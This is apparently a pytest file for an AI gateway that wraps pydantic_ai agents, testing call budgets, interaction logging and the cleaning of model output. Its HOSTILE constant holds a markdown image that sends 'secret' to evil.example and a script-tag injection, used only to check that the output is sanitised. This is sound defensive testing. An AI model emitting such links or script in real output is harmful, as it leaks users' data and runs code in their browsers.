"""An agent on `gateway.model()` is guarded without further ado: each run is one interaction."""

import asyncio
from typing import Any

import pytest
from gateway_cases import answered
from pydantic import BaseModel
from pydantic_ai import Agent
from pydantic_ai.messages import ModelResponse, ToolCallPart

from ai_base.llm.errors import CallLimitError
from ai_base.testing.doubles import RuleModel, ScriptedModel
from ai_base.text.clean import clean

HOSTILE = "Look: ![x](https://evil.example/?q=secret) and <script>alert(1)</script>."
CLEAN = clean(HOSTILE)


def looking_up(gateway: Any, **options: Any) -> Agent[None, Any]:
    agent: Agent[None, Any] = Agent(gateway.model(), **options)

    @agent.tool_plain
    def look_up(word: str) -> str:
        return word

    return agent


def call_tool(word: str) -> ModelResponse:
    return ModelResponse([ToolCallPart("look_up", {"word": word})])


async def run_as(agent: Agent[None, Any], way: str) -> Any:
    if way == "run":
        return (await agent.run("hello")).output
    if way == "iter":
        async with agent.iter("hello") as run:
            async for _ in run:
                pass
        return run.result.output if run.result else None
    async with agent.run_stream("hello") as stream:
        return await stream.get_output()


@pytest.mark.parametrize("way", ["run", "run_stream", "iter"])
async def test_a_run_makes_no_more_calls_than_an_interaction_may(open_gateway: Any, way: str) -> None:
    """A model that calls its tool for ever."""
    model = RuleModel({"(?s).*": call_tool("again")})
    async with open_gateway(main=model, budgets={"interaction": {"calls": 3}}) as gateway:
        with pytest.raises(CallLimitError, match="3 calls of 3"):
            await run_as(looking_up(gateway), way)
        [row] = await gateway.ledger.interactions(10)

    assert (row.calls, row.status, len(model.requests)) == (3, "failed", 3)


@pytest.mark.parametrize("way", ["run", "run_stream", "iter"])
async def test_a_run_is_one_row_with_all_its_attempts_and_its_last_answer(open_gateway: Any, way: str) -> None:
    async with open_gateway(main=ScriptedModel(call_tool("word"), answered("done"))) as gateway:
        output = await run_as(looking_up(gateway), way)
        [row] = await gateway.ledger.interactions(10)
        _, attempts = await gateway.ledger.interaction(row.id)

    assert output == row.response == "done"
    assert (row.calls, row.status, row.source, row.request) == (2, "ok", "model", "hello")
    assert row.cost == sum(attempt.cost for attempt in attempts)
    assert len(attempts) == 2


async def test_runs_at_the_same_time_are_interactions_of_their_own(open_gateway: Any) -> None:
    model = RuleModel({"done": "done", "(?s).*": call_tool("done")})
    async with open_gateway(main=model, budgets={"interaction": {"calls": 2}}) as gateway:
        agent = looking_up(gateway)
        await asyncio.gather(*(agent.run("hello") for _ in range(5)))
        rows = await gateway.ledger.interactions(10)

    assert [row.calls for row in rows] == [2] * 5


@pytest.mark.parametrize("way", ["run", "run_stream", "iter"])
async def test_an_agents_text_is_cleaned(open_gateway: Any, way: str) -> None:
    async with open_gateway(main=ScriptedModel(answered(HOSTILE))) as gateway:
        assert await run_as(Agent(gateway.model()), way) == CLEAN


async def test_an_agents_streamed_text_is_cleaned_as_it_comes(open_gateway: Any) -> None:
    async with (
        open_gateway(main=ScriptedModel(answered(HOSTILE))) as gateway,
        Agent(gateway.model()).run_stream("hello") as stream,
    ):
        pieces = [piece async for piece in stream.stream_text(delta=True, debounce_by=None)]

    assert len(pieces) > 1
    assert CLEAN != HOSTILE
    assert "".join(pieces) == CLEAN


class Report(BaseModel):
    title: str


@pytest.mark.parametrize("way", ["run", "run_stream"])
async def test_an_agents_structured_output_is_cleaned_and_its_tools_arguments_are_not(
    open_gateway: Any, way: str
) -> None:
    seen: list[str] = []
    script = ScriptedModel(
        ModelResponse([ToolCallPart("note", {"text": HOSTILE})]),
        ModelResponse([ToolCallPart("final_result", {"title": HOSTILE})]),
    )
    async with open_gateway(main=script) as gateway:
        agent = Agent(gateway.model(), output_type=Report)

        @agent.tool_plain
        def note(text: str) -> str:
            seen.append(text)
            return "noted"

        output = await run_as(agent, way)

    assert output == Report(title=CLEAN)
    assert seen == [HOSTILE]
